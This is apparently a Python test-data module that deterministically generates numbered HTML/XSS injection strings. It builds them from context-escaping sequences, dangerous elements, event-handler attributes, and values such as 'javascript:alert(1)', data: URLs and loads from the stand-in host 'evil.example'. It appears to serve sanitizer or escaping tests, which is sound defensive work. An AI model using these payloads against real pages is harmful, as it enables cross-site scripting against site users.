"""Texts that would be markup if a page let them: made in number, the same on every run."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Final

# How a payload may try to leave the place where it stands.
_BREAKS: Final = (
    *("", '"', "'", "`", ">", '">', "'>", "/>", "-->", "]]>", "--!>", "<!--", "<![CDATA[", "?>", "\\", "\\'", '\\"'),
    *("</title>", "</style>", "</script>", "</textarea>", "</pre>", "</code>", "</summary></details>", "</svg></math>"),
    *(
        "</noscript>",
        "</template>",
        "</select>",
        "</table>",
        "</body></html>",
        "&quot;>",
        "&#34;&gt;",
        "\u2028",
        "\x00",
    ),
    *(
        "{{",
        "{%",
        "}}",
        "${",
        "#{",
        "%3C",
        "\ud800",
        "\ufeff",
        "\u202e",
        "\r\n\r\n",
        "\x1b[2J",
        "\x9b31m",
        "\x0b",
        "\x0c",
    ),
)
_ELEMENTS: Final = (
    *("script", "img", "svg", "iframe", "object", "embed", "link", "meta", "base", "style", "form", "input", "a", "b"),
    *("details", "video", "audio", "math", "template", "plaintext", "xmp", "noembed", "frameset", "isindex", "table"),
    *("select", "option", "button", "marquee", "body", "html", "head", "title", "textarea", "p", "li", "h1", "foo-bar"),
)
_ATTRIBUTES: Final = (
    *("onload=", "onerror=", "onfocus=", "ontoggle=", "onclick=", "onanimationstart=", "autofocus ", "srcdoc=", "src="),
    *("href=", "xlink:href=", "action=", "formaction=", "style=", "http-equiv=refresh content=", "background=", "id="),
    *("data-copy=", "class=", "name=", "open ", "hidden ", "is=", "slot=", "nonce=", "integrity=", "charset="),
)
_VALUES: Final = (
    *("alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x", "x", ""),
    *(
        "&#106;avascript:alert(1)",
        "java\tscript:alert(1)",
        "url(//evil.example)",
        "0;url=//evil.example",
        "expression(1)",
    ),
    *("@import'//evil.example'", "`-alert(1)-`", "'-alert(1)-'", '"-alert(1)-"', "{{7*7}}", "\u0000", "<b>", "</b>"),
)
_SPACES: Final = (" ", "/", "\t", "\n", "\r", "\x0c", "/**/", "  ", "\u00a0")
_QUOTES: Final = ("", '"', "'", "`")


def payloads(seed: int = 11) -> Iterator[str]:
    """Without end: a way out of the place, an element with attributes of every kind, and what would follow it."""
    chance = random.Random(seed)
    number = 0
    while True:
        number += 1
        attributes = "".join(
            f"{chance.choice(_SPACES)}{chance.choice(_ATTRIBUTES)}{(quote := chance.choice(_QUOTES))}"
            f"{chance.choice(_VALUES)}{quote}"
            for _ in range(chance.randrange(4))
        )
        element = chance.choice(_ELEMENTS)
        if chance.random() < 0.3:
            element = "".join(chance.choice((char, char.upper())) for char in element)
        end = chance.choice((">", "/>", ">x</", "", "<", f">{chance.choice(_VALUES)}</{element}>"))
        # The number keeps payloads apart, so that no two places look equal by chance.
        yield f"{chance.choice(_BREAKS)}<{element}{attributes}{end}{chance.choice(_BREAKS)}{number}"
